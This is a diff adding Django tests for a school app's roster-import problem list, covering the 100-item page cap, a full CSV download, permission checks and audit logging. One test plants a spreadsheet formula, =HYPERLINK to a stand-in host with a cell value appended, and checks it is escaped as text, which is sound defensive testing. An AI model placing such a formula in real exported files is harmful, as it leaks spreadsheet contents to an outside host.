@@ -1,7 +1,11 @@
+import csv
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
+from esafety.audit.models import AuditEvent
 from esafety.people.models import Pupil, RosterImport
 from esafety.people.roster import COLUMNS
 from tests.people.roster_helpers import pupil, roster_csv, run_import, upload
@@ -152,3 +156,81 @@ def test_it_reports_progress_as_json(personas, client_for):
     data = client.get(progress_url(r)).json()
     assert (data["finished"], data["percent"]) == (True, 100)
     assert client_for(personas.staff).get(progress_url(r)).status_code == 403
+
+
+def problems_url(r):
+    return reverse("people:roster_problems_csv", args=[r.school.code, r.code])
+
+
+def bad_lines(n: int) -> bytes:
+    return roster_csv([pupil(i, date_of_birth="31/02/2015") for i in range(1, n + 1)])
+
+
+def csv_rows(response) -> list[list[str]]:
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="roster-problems-')
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_it_lists_the_first_hundred_problems_and_the_download_has_every_one(personas, client_for):
+    client = client_for(personas.office)
+    few = run_import(personas.office, personas.school, bad_lines(101))
+    many = run_import(personas.office, personas.school, bad_lines(5_000))
+
+    small, page = client.get(detail_url(few)), client.get(detail_url(many))
+
+    assert "The file has 5,000 problems." in page.text
+    assert page.text.count('<li class="list-group-item">line ') == 100
+    assert "line 101: date_of_birth" in page.text and "line 102:" not in page.text
+    assert '<li class="list-group-item">and 4,900 more</li>' in page.text
+    assert f'href="{problems_url(many)}" download>Download all 5,000 problems as CSV' in page.text
+    # The page is as long for 5,000 problems as for 101: only the count's digits differ.
+    assert len(page.content) - len(small.content) < 50
+    assert len(page.content) < 30_000
+
+    rows = csv_rows(client.get(problems_url(many)))
+    assert rows[0] == ["Line", "Problem"]
+    assert len(rows) == 5_001
+    assert [int(line) for line, _ in rows[1:]] == list(range(2, 5_002))
+    assert rows[-1][1] == (
+        "date_of_birth '31/02/2015' is not a date (use YYYY-MM-DD or DD/MM/YYYY)."
+    )
+
+
+def test_it_offers_a_short_list_for_download_too(personas, client_for):
+    r = run_import(personas.office, personas.school, bad_lines(2))
+    client = client_for(personas.head)
+
+    page = client.get(detail_url(r))
+    assert "The file has 2 problems." in page.text and "more</li>" not in page.text
+    assert f'href="{problems_url(r)}" download>Download the list as CSV' in page.text
+    rows = csv_rows(client.get(problems_url(r)))
+    assert [line for line, _ in rows] == ["Line", "2", "3"]
+
+
+def test_it_keeps_a_formula_in_a_problem_as_text_in_the_download(personas, client_for):
+    r = run_import(personas.office, personas.school, bad_lines(1))
+    # Every message starts with a column name today; whatever one says, it stays text.
+    RosterImport.objects.filter(pk=r.pk).update(
+        errors=[{"line": None, "message": '=HYPERLINK("http://x?"&A1, "Open")'}],
+        summary={"problems": 1, "lines": 0},
+    )
+
+    rows = csv_rows(client_for(personas.office).get(problems_url(r)))
+
+    assert rows[1] == ["", '\'=HYPERLINK("http://x?"&A1, "Open")']
+
+
+def test_it_audits_every_download_of_the_problems(personas, client_for):
+    r = run_import(personas.office, personas.school, bad_lines(3))
+
+    response = client_for(personas.head).get(problems_url(r))
+    b"".join(response.streaming_content)
+
+    event = AuditEvent.objects.get(action="export.roster_problems")
+    assert (event.actor, event.school, event.object_code) == (
+        personas.head,
+        personas.school,
+        str(r.code),
+    )
+    assert event.summary == "3 problem(s)"
